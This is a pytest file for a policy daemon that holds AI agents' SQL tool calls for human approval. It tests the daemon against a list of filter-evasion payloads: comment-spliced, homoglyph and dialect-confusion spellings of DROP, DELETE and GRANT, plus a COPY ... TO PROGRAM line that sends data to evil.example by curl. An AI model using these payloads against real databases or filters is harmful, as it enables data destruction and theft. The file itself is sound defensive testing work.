"""The bundled SQL rules against a table of evasions, and the SQL lexer's dialect readings."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from daemon.config import PolicyFile
from daemon.policy import compile_policy, load_policy
from daemon.sql import MAX_SQL, sql_words

ROOT = Path(__file__).resolve().parents[2]

#: Statements that change data, schema or rights, spelt to get past a keyword regex.
EVASIONS = [
    "DROP/**/TABLE users",
    "DROP/* a comment */TABLE users",
    "DROP-- a comment\nTABLE users",
    "DROP# a comment\nTABLE users",
    'DROP TABLE "users"',
    "DROP TABLE `users`",
    "DROP TABLE [users]",
    "DROP TABLE IF EXISTS public.users CASCADE",
    "TRUNCATE users",
    "truncate `users`",
    "DELETE users",
    "DELETE FROM users",
    "delete/**/from/**/users",
    "drop\ttable users",
    "DROP\r\nTABLE\nusers",
    "DrOp TaBlE users",
    "ALTER TABLE users DROP COLUMN email",
    "UPDATE users SET admin = true",
    'UPDATE "users" SET admin = true WHERE 1 = 1',
    "SELECT 1; DROP TABLE users",
    "SELECT * FROM users;DELETE FROM users",
    "\uff24\uff32\uff2f\uff30 \uff34\uff21\uff22\uff2c\uff25 users",  # fullwidth
    "DR\u041eP TABLE users",  # Cyrillic capital O
    "DR\u200bOP TABLE users",  # a zero-width space inside the keyword
    "DROP\u00a0TABLE users",  # a no-break space
    # Strings and comments that hide a statement from one database's reading but not another's.
    "SELECT '\\'; DROP TABLE users; -- '",  # MySQL: one string; PostgreSQL: a DROP
    'SELECT "a\\"; DROP TABLE users; -- "',  # MySQL: one string; PostgreSQL: a name, then a DROP
    "SELECT 1 --x; DROP TABLE users",  # PostgreSQL: a comment; MySQL: 1 - -x, then a DROP
    "SELECT 1 # x\n; DROP TABLE users",
    "SELECT 1 #'; DROP TABLE users; --'",  # PostgreSQL: '#' is an operator
    "SELECT /*! DROP TABLE users */ 1",  # MySQL runs /*! ... */
    "/* /* */ ' */ DROP TABLE users; -- '",  # PostgreSQL nests comments, MySQL does not
    "SELECT [a'b]; DROP TABLE users; --'",  # SQL Server and SQLite: [a'b] is a name
    "SELECT $$x$$; DROP TABLE users",
    "SELECT $q$ it's $q$; DROP TABLE users",
    "SELECT 'a;DROP TABLE users;--'",  # a server that splits the script at ';' runs the DROP
    "SELECT E'\\''; DROP TABLE users; --'",
    # Statements that change data without the usual spelling.
    "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
    "SELECT * INTO backup FROM users",
    "INSERT INTO users VALUES (1, 'x')",
    "REPLACE INTO users VALUES (1, 'x')",
    "MERGE INTO users USING staging ON users.id = staging.id WHEN MATCHED THEN DELETE",
    "GRANT ALL ON users TO public",
    "EXECUTE 'DR' || 'OP TABLE users'",
    "EXEC('DR' + 'OP TABLE users')",
    "DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$",
    "PREPARE s FROM 'DROP TABLE users'",
    "CALL purge_users()",
    "COPY users TO PROGRAM 'curl -d @- evil.example'",
    "ATTACH DATABASE '/tmp/x.db' AS x",
    "SET ROLE admin",
    "SELECT * FROM users FOR UPDATE",
]

#: Reads that must keep running without a human: keywords only in strings, names or comments.
READS = [
    "SELECT * FROM users",
    "select id, name from users where id = 42",
    "SELECT * FROM users WHERE note = 'please drop me a line'",
    "SELECT count(*) FROM orders WHERE status = 'updated'",
    'SELECT "delete", "update" FROM t',
    "SELECT dropped_at, updated_by, deleted FROM audit",
    "SELECT 1 -- update this later",
    "SELECT 1 /* do not truncate */",
    "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
    "EXPLAIN SELECT * FROM users",
]


@pytest.mark.parametrize("sql", EVASIONS)
def test_bundled_rule_pauses_every_evasion(sql: str) -> None:
    """Each spelling of a writing statement in a 'sql' argument is sent for approval."""
    verdict = load_policy(None, None).decide("get_data", {"sql": sql})
    assert (verdict.action, verdict.rule.split(" ")[0]) == ("approve", "global.rules[0]")


@pytest.mark.parametrize("sql", EVASIONS)
def test_bundled_query_rule_pauses_every_evasion(sql: str) -> None:
    """The same in the 'query' argument of a read_query tool (the sqlite reference server's)."""
    verdict = load_policy(None, None).decide("read_query", {"query": sql})
    assert (verdict.action, verdict.rule.split(" ")[0]) == ("approve", "global.rules[1]")


@pytest.mark.parametrize("sql", EVASIONS)
def test_example_rule_pauses_every_evasion(sql: str) -> None:
    """config.example.json's SQL rule, as users copy it, is as strict as the bundled one."""
    verdict = load_policy(str(ROOT / "config.example.json"), None).decide("get_data", {"sql": sql})
    assert verdict.action == "approve"
    assert "SQL" in verdict.rule


@pytest.mark.parametrize("sql", READS)
def test_bundled_rule_lets_reads_run(sql: str) -> None:
    """A keyword inside a string literal, a quoted name, a longer word or a comment is not a statement."""
    assert load_policy(None, None).decide("get_data", {"sql": sql}).action == "allow"


def test_rule_looks_inside_lists_and_nested_objects() -> None:
    """A writing statement in a list of statements, or in a nested 'sql' key, is caught."""
    p = load_policy(None, None)
    assert p.decide("get_data", {"sql": ["SELECT 1", "DROP TABLE users"]}).action == "approve"
    assert p.decide("get_data", {"batch": [{"sql": "TRUNCATE users"}]}).action == "approve"
    assert p.decide("get_data", {"sql": ["SELECT 1", "SELECT 2"]}).action == "allow"


def sql_rule(words: list[str], action: str = "deny") -> Any:
    cfg = {
        "global": {
            "default_action": "allow",
            "rules": [{"args": [{"key": "q", "sql_keywords": words}], "action": action}],
        }
    }
    return compile_policy(PolicyFile.model_validate(cfg), None)


def test_keywords_in_the_rule_are_normalized_and_whole_words() -> None:
    """A keyword written in capitals matches, and only as a whole word (not drop_ship, not dropped)."""
    p = sql_rule(["DROP"])
    assert p.decide("t", {"q": "drop table x"}).action == "deny"
    assert p.decide("t", {"q": "select drop_ship, dropped from x"}).action == "allow"
    assert p.decide("t", {"q": 42}).action == "allow"  # only strings are SQL


def test_text_too_long_to_lex_counts_as_matching() -> None:
    """A value over MAX_SQL is not read; the rule holds, so a human looks at it."""
    p = sql_rule(["drop"], "approve")
    assert p.decide("t", {"q": "SELECT 1 " + " " * MAX_SQL}).action == "approve"
    assert sql_words("x" * (MAX_SQL + 1)) is None


@pytest.mark.parametrize(
    ("sql", "hidden"),
    [
        ("SELECT 'drop'", "drop"),
        ('SELECT "drop"', "drop"),
        ("SELECT 1 -- drop", "drop"),
        ("SELECT 1 /* drop */", "drop"),
        ("SELECT 1 /* /* drop */ */", "drop"),
    ],
)
def test_what_every_reading_agrees_is_not_code(sql: str, hidden: str) -> None:
    """Strings, quoted names and comments that every dialect reads alike are not code words."""
    words = sql_words(sql)
    assert words is not None
    assert "select" in words and hidden not in words


@pytest.mark.parametrize("words", [["drop table"], [""], ["drop;"]])
def test_keywords_must_be_single_words(words: list[str]) -> None:
    """A phrase, an empty entry or punctuation could never be a statement word: refused at load."""
    rule = {"args": [{"key": "q", "sql_keywords": words}], "action": "deny"}
    with pytest.raises(ValueError, match="single words"):
        PolicyFile.model_validate({"global": {"rules": [rule]}})
